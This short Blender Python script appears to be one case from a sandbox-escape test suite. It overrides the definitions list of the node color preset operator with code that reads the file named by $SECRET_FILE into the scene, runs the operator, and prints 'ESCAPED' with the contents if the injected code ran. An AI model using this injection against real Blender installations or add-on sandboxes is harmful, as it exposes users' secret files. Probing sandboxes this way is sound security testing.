# attack: the preset operators evaluate the strings of their class: the script gives them others
# family: operators
import bpy

preset = bpy.types.NODE_OT_node_color_preset_add
preset.preset_defines = ["context.scene['found'] = open('$SECRET_FILE').read()"]
preset.preset_values = []
try:
    bpy.ops.node.node_color_preset_add(name="b operators 04")
finally:
    if "found" in bpy.context.scene:
        print("REACHED", "Python by a preset's definitions")
        print("ESCAPED", bpy.context.scene["found"])
